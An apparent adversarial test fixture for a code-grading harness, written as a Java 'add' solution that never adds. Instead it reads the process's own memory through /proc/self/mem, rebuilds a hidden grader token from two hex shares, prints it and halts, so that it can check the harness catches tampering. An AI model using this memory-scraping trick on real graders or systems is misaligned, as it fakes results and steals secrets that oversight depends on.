// problem: add
// attack: searches its whole memory for two shares in hexadecimal and prints what they make
// expect: early-exit | wrong | tampered | timeout
import java.io.*;
import java.nio.file.*;
import java.util.regex.*;

class Solution {
    public int add(int a, int b) {
        Pattern shares = Pattern.compile("([0-9a-f]{64})\\n([0-9a-f]{64})\\n");
        try (RandomAccessFile memory = new RandomAccessFile("/proc/self/mem", "r")) {
            for (String line : Files.readAllLines(Path.of("/proc/self/maps"))) {
                String[] ends = line.split(" ")[0].split("-");
                long start = Long.parseUnsignedLong(ends[0], 16);
                long size = Math.min(Long.parseUnsignedLong(ends[1], 16) - start, 64 << 20);
                if (!line.contains("rw-p") || start < 0) {
                    continue;
                }
                byte[] content = new byte[(int) size];
                try {
                    memory.seek(start);
                    memory.readFully(content);
                } catch (IOException hole) {
                    continue;
                }
                Matcher found = shares.matcher(new String(content, "ISO-8859-1"));
                while (found.find()) {
                    StringBuilder token = new StringBuilder();
                    for (int i = 0; i < 64; i++) {
                        int both = Character.digit(found.group(1).charAt(i), 16) ^ Character.digit(found.group(2).charAt(i), 16);
                        token.append(Character.forDigit(both, 16));
                    }
                    System.out.print(token);
                    System.out.flush();
                    Runtime.getRuntime().halt(0);
                }
            }
        } catch (IOException closed) {
            return 0;
        }
        return 0;
    }
}
